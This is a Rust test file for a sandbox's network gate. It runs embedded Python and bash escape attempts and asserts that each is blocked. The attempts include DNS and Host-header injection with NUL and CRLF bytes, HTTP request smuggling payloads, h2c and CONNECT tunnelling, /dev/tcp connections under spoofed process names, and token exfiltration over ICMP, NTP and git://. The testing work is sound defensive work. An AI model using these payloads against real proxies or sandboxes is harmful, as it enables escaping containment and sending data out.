//! Family C of the known escapes, where no other test of these has its number: what got out of other sandboxes, each beside something
//! that must still work.

use super::support::jail::Ran;
use super::{in_each_tier, world::World};

/// What reached the internet since `before`.
fn since(world: &World, before: usize) -> Vec<String> {
    world.log().lines().skip(before).map(str::to_owned).collect()
}

fn denials(ran: &Ran) -> String {
    ran.verdict["denials"].to_string()
}

#[test]
fn c1_a_name_that_ends_early_or_has_lines_or_a_zone_is_no_name() {
    in_each_tier(|world, place| {
        let token = &place.token;
        let program = format!(
            r#"
import socket, struct
def look_up(*labels):
    message = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(part)]) + part for part in labels) + b'\0' + struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('9.9.9.9', 53)); s.send(message)
    reply = s.recv(4096)
    return reply[3] & 15, struct.unpack('>H', reply[6:8])[0]
assert look_up(b'good', b'example') == (0, 1)
for labels in ((b'{token}\0', b'good', b'example'), (b'good.example\0.evil', b'example'), (b'good.example',), (b'good', b'example\r\n'),
        (b'good', b'example%lo'), (b'x' * 63,) * 4, (), (b'-good', b'example'), (b'\xff', b'example'), (b'good', b'example', b'1')):
    code, answers = look_up(*labels)
    assert code in (1, 3) and answers == 0, (labels, code, answers)
def ask(host):
    c = socket.create_connection(('good.example', 80)); c.settimeout(5)
    c.sendall(b'GET /c1{token} HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n')
    try:
        return c.recv(100).split(b' ')[1:2] == [b'200']
    except OSError:
        return False
for host in (b'good.example\0.other.example', b'good.example\0', b'good.example\r\n other.example', b'good.example%00.other.example', b'[good.example]',
        b'good.example:80:80', b'good.example#@other.example', b'other.example@good.example', b'good.example:080x', b'good.example:81', b'',
        b'good.example other.example', b'good.example,other.example', b'good.example..', b'x' * 300, b'\xe2\x93\x96ood.example'):
    assert not ask(host), host
print(ask(b'Good.Example.:80'))
"#
        );
        let before = world.log().lines().count();
        let ran = world.python(place, "web", &program);
        assert_eq!(ran.text(), "True", "{}", ran.whole());
        let seen = since(world, before);
        assert_eq!(seen.iter().filter(|line| line.contains(&format!("/c1{token}"))).count(), 1, "{seen:?}");
        assert!(!seen.iter().any(|line| line.starts_with("dns") && line.contains(token.as_str())), "{seen:?}");
    });
}

#[test]
fn c7_no_protocol_goes_past_what_https_would_be_held_to() {
    in_each_tier(|world, place| {
        let program = r#"
import socket, ssl
def plain(host, port=80, *fields):
    c = socket.create_connection((host, port)); c.settimeout(5)
    c.sendall('\r\n'.join(('GET /c7 HTTP/1.1', 'Host: ' + host) + fields + ('', '')).encode())
    return c.recv(100).split(b' ')[1].decode()
def secure(host):
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    try:
        context.wrap_socket(socket.create_connection((host, 443)), server_hostname=host).close()
        return 'tls'
    except OSError as error:
        return 'denied'
def quic(address):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'\xc0' + b'x' * 1199, (address, 443))
        return 'sent'
    except PermissionError:
        return 'denied'
print(plain('good.example'), secure('good.example'))
print(plain('151.101.0.1'), secure('151.101.0.1'), quic('93.184.216.34'), quic('151.101.0.1'))
print(plain('good.example', 80, 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=='))
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "web", program);
        assert_eq!(ran.text(), "200 tls\n403 denied denied denied\n200", "{}", ran.whole());
        let seen = since(world, before);
        assert!(!seen.iter().any(|line| line.contains("asks to upgrade") || line.contains("151.101.0.1")), "{seen:?}");
    });
}

#[test]
fn c8_a_relay_inside_has_no_more_power_than_who_uses_it() {
    in_each_tier(|world, place| {
        let program = r#"
import socket, threading
def relay(port, to):
    server = socket.create_server(('127.0.0.1', port))
    def copy(source, sink):
        try:
            while piece := source.recv(65536):
                sink.sendall(piece)
            sink.shutdown(socket.SHUT_WR)
        except OSError:
            source.close(); sink.close()
    def serve():
        while True:
            client, _ = server.accept(); there = socket.create_connection(to)
            for pair in ((client, there), (there, client)):
                threading.Thread(target=copy, args=pair, daemon=True).start()
    threading.Thread(target=serve, daemon=True).start()
def ask(port, host):
    c = socket.create_connection(('127.0.0.1', port)); c.settimeout(5)
    c.sendall(b'GET /c8 HTTP/1.1\r\nHost: ' + host + b'\r\n\r\n')
    try:
        return (c.recv(100).split(b' ') + [b'', b''])[1].decode() or 'closed'
    except OSError:
        return 'closed'
relay(8001, ('good.example', 80)); relay(8002, ('151.101.0.1', 80))
print(ask(8001, b'good.example'), ask(8001, b'other.example'), ask(8002, b'good.example'))
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "web", program);
        assert_eq!(ran.text(), "200 403 403", "{}", ran.whole());
        let seen = since(world, before);
        assert!(!seen.iter().any(|line| line.contains("151.101.0.1") || line.contains("other.example")), "{seen:?}");
    });
}

#[test]
fn c9_http_that_would_become_another_protocol_does_not() {
    in_each_tier(|world, place| {
        let program = r#"
import socket
def say(*requests):
    c = socket.create_connection(('good.example', 80)); c.settimeout(5)
    try:
        c.sendall(b''.join(requests))
        return c.recv(100).split(b'\r\n')[0].decode()
    except OSError:
        return 'closed'
head = b'GET /c9 HTTP/1.1\r\nHost: good.example\r\n'
print(say(head, b'\r\n'))
print(say(head, b'Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n'))
print(say(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', b'\0\0\0\4\0\0\0\0\0'))
print(say(b'CONNECT good.example:22 HTTP/1.1\r\nHost: good.example:22\r\n\r\n'))
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "web", program);
        let lines: Vec<String> = ran.text().lines().map(str::to_owned).collect();
        assert_eq!(lines[..2], ["HTTP/1.1 200 OK", "HTTP/1.1 200 OK"], "{}", ran.whole());
        assert!(lines[2..].iter().all(|line| line.starts_with("HTTP/1.1 403") || line == "closed"), "{lines:?}");
        assert!(!since(world, before).iter().any(|line| line.contains("asks to upgrade") || line.contains("HTTP/2")));
    });
}

#[test]
fn c10_no_request_hides_in_another() {
    in_each_tier(|world, place| {
        let program = r#"
import socket
hidden = b'GET /smuggled HTTP/1.1\r\nHost: good.example\r\n\r\n'
def say(head, body=b''):
    c = socket.create_connection(('good.example', 80)); c.settimeout(2)
    try:
        c.sendall(head + body)
        c.shutdown(socket.SHUT_WR)
        heard = b''
        while part := c.recv(65536):
            heard += part
        return heard.count(b'HTTP/1.1 200')
    except OSError:
        return 0
post = lambda *fields: b'\r\n'.join((b'POST /c10 HTTP/1.1', b'Host: good.example') + fields + (b'', b''))
length = b'Content-Length: %d' % len(hidden)
assert say(post(length), hidden) == 1
assert say(post(b'Transfer-Encoding: chunked'), b'%x\r\n' % len(hidden) + hidden + b'\r\n0\r\n\r\n') == 1
for head in (post(b'Content-Length: 0', b'Transfer-Encoding: chunked'), post(b'Transfer-Encoding: chunked', length), post(b'Content-Length: 0', length),
        post(length, length), post(b'Content-Length: +0'), post(b'Content-Length: 0, 0'), post(b'Content-Length: 0x0'), post(b'Content-Length:'),
        post(b'Content-Length : 0'), post(b' Content-Length: 0'), post(b'X: y', b' Content-Length: 0'), post(b'Content-Length\0: 0'),
        post(b'Transfer-Encoding: xchunked'), post(b'Transfer-Encoding: identity, chunked'), post(b'Transfer-Encoding: chunked, identity'),
        post(b'Transfer-Encoding: chunked', b'Transfer-Encoding: chunked'), post(b'Transfer-Encoding:\x0bchunked'), post(b'Transfer-Encoding : chunked'),
        post(b'Transfer-Encoding: "chunked"'), post(b'X: \rContent-Length: 0'), post(length, b'Host: good.example'),
        post(length).replace(b'HTTP/1.1', b'HTTP/1.0', 1).replace(b'\r\n\r\n', b'\r\nTransfer-Encoding: chunked\r\n\r\n')):
    for body in (b'0\r\n\r\n' + hidden, hidden, b'0;\n\r\n' + hidden, b'1\r\nZ\r\nQ\r\n' + hidden):
        say(head, body)
chunked = post(b'Transfer-Encoding: chunked')
for body in (b'0\r\nX: y\n\r\n', b'-1\r\n', b'0x0\r\n\r\n', b'1 \r\nZ\r\n0\r\n\r\n', b'0;a\nb\r\n\r\n', b'ffffffffffffffff0\r\n', b'2\r\nZ\r\n0\r\n\r\n', b'0\n\n', b'\r\n0\r\n\r\n'):
    say(chunked, body)
print('said')
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "web", program);
        assert_eq!(ran.text(), "said", "{}", ran.whole());
        let seen = since(world, before);
        assert!(seen.iter().filter(|line| line.contains("/c10")).count() >= 2, "{seen:?}");
        // What stands behind a request that ended is a request of its own, and was judged as one.
        let alone = |line: &&String| line.contains("POST /smuggled") || line.contains("Z");
        assert_eq!(seen.iter().filter(alone).count(), 0, "{seen:?}");
    });
}

#[test]
fn c17_no_way_to_ask_for_names_but_the_gates() {
    in_each_tier(|world, place| {
        let token = &place.token;
        let program = format!(
            r#"
import os, socket
def tried(attempt):
    try:
        return attempt() or 'worked'
    except OSError as error:
        return type(error).__name__
def tls_port():
    c = socket.create_connection(('9.9.9.9', 853), timeout=5); c.sendall(b'\x16\x03\x01'); return c.recv(1) or 'closed'
def over_https():
    c = socket.create_connection(('151.101.0.1', 443), timeout=5); c.sendall(b'\x16\x03\x01'); return c.recv(1)[:1] == b'\x15' and 'alert' or 'closed'
print(tried(lambda: socket.socket(socket.AF_UNIX)), os.path.exists('/run/systemd/resolve/io.systemd.Resolve'), os.path.exists('/run/nscd/socket'))
print(tried(tls_port), tried(over_https))
for number in range(30):
    socket.gethostbyname('{token}%d.wild.example' % number)
    assert tried(lambda: socket.gethostbyname('{token}%d.bad.wild.example.evil.example' % number)) == 'gaierror'
c = socket.create_connection(('a.wild.example', 80)); c.sendall(b'GET /c17 HTTP/1.1\r\nHost: a.wild.example\r\n\r\n'); print(c.recv(12).decode())
"#
        );
        let before = world.log().lines().count();
        let ran = world.python(place, "web", &program);
        let lines: Vec<String> = ran.text().lines().map(str::to_owned).collect();
        assert_eq!(
            (lines[0].as_str(), lines[2].as_str()),
            ("PermissionError False False", "HTTP/1.1 200"),
            "{}",
            ran.whole()
        );
        assert!(!lines[1].contains("worked"), "{lines:?}");
        let seen = since(world, before);
        // An allowed parent's authority hears of what was connected to, and of nothing that was only looked up.
        assert!(!seen.iter().any(|line| line.starts_with("dns") && line.contains(token.as_str())), "{seen:?}");
        assert!(world.saw("dns a.wild.example"));
    });
}

#[test]
fn c18_nothing_outside_opens_addresses_for_a_jail() {
    in_each_tier(|world, place| {
        let script = "env | grep -iE '^(browser|dbus|xdg_|ssh_|wayland|display|.*_proxy=)' | wc -l; \
             find / -xdev -type s 2>/dev/null | wc -l; find /tmp /run /var/run -type s 2>/dev/null | wc -l; find /etc/hosts -type f | wc -l";
        let ran = world.bash(place, "web", script);
        assert_eq!(ran.text(), "0\n0\n0\n1", "{}", ran.whole());
    });
}

#[test]
fn c19_c22_the_hosts_own_ports_are_no_hosts() {
    in_each_tier(|world, place| {
        let program = r#"
import socket
def reach(address, port):
    try:
        c = socket.create_connection((address, port), timeout=5); c.settimeout(5); c.sendall(b'\x01'); return c.recv(1) or 'closed'
    except OSError as error:
        return 'closed'
# 8099 is a server of the host's own, which nobody inside may reach by any of its addresses.
for address in ('127.0.0.1', '127.1.2.3', '::1', '45.90.0.1', '2a0c:1::1', '0.0.0.0', '::', '::ffff:127.0.0.1', '198.18.0.0', '169.254.0.1'):
    assert reach(address, 8099) == 'closed', address
for port in range(1, 200, 3):
    assert reach('45.90.0.1', port) == 'closed', port
print(reach('45.90.0.2', 7000))
"#;
        let before = world.log().lines().count();
        let ran = world.python(place, "everything", program);
        assert_eq!(ran.text(), "b'h'", "{}", ran.whole());
        assert!(!since(world, before).iter().any(|line| line.starts_with("home")), "{}", world.log());
    });
}

#[test]
fn c20_no_name_of_a_process_changes_what_it_may_reach() {
    in_each_tier(|world, place| {
        let script = "t() { (exec -a \"$1\" bash -c 'exec 3<>/dev/tcp/'$2' && head -c5 <&3' 2>/dev/null) || printf no; printf ' '; }; \
             t clawjail-gate 151.101.0.1/7000; t /usr/bin/git 151.101.0.1/7000; t bash good.example/7000; \
             exec 3<>/dev/tcp/good.example/7000; exec bash -c 'head -c5 <&3'";
        let ran = world.bash(place, "web", script);
        assert_eq!(ran.text(), "no no hello hello", "{}", ran.whole());
    });
}

/// What docs/egress.md says that the gate does not see without rules for requests: what is inside of TLS.
#[test]
fn c23_what_is_asked_inside_of_tls_to_an_allowed_name_is_not_seen_without_rules_for_requests() {
    in_each_tier(|world, place| {
        let script = "curl -sS -k -H 'Host: other.example' https://good.example/c23; \
             curl -sS -k -o /dev/null --connect-to other.example:443:good.example:443 https://other.example/c23 2>/dev/null; echo rc $?";
        let ran = world.bash(place, "web", script);
        assert_eq!(ran.text(), "https other.example GET /c23 0\nrc 35", "{}", ran.whole());
    });
}

#[test]
fn c24_what_leaves_by_other_protocols_is_seen_by_nobody() {
    in_each_tier(|world, place| {
        let token = &place.token;
        let program = format!(
            r#"
import socket, subprocess
def tried(attempt):
    try:
        attempt(); return 'worked'
    except OSError as error:
        return type(error).__name__
def ping(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b'\x08\0\0\0' + b'{token}', ('45.90.0.2', 0))
def raw(): socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
def sctp(): socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)
def time(): socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{token}', ('45.90.0.2', 123))
print(*(tried(attempt) for attempt in (ping, raw, sctp, time)))
pushed = subprocess.run(['git', 'ls-remote', 'git://151.101.0.1/{token}'], capture_output=True).returncode
print(pushed != 0, socket.create_connection(('good.example', 7000)).recv(5).decode())
"#
        );
        let before = world.log().lines().count();
        let ran = world.python(place, "web", &program);
        let [no, kept] = ["PermissionError", "True hello"];
        assert_eq!(ran.text(), format!("{no} {no} {no} {no}\n{kept}"), "{}", ran.whole());
        let seen = since(world, before);
        assert!(!seen.iter().any(|line| line.contains(token.as_str()) || line.starts_with("udp")), "{seen:?}");
        assert!(
            denials(&ran).contains("45.90.0.2:123") && denials(&ran).contains("151.101.0.1:9418"),
            "{}",
            denials(&ran)
        );
    });
}
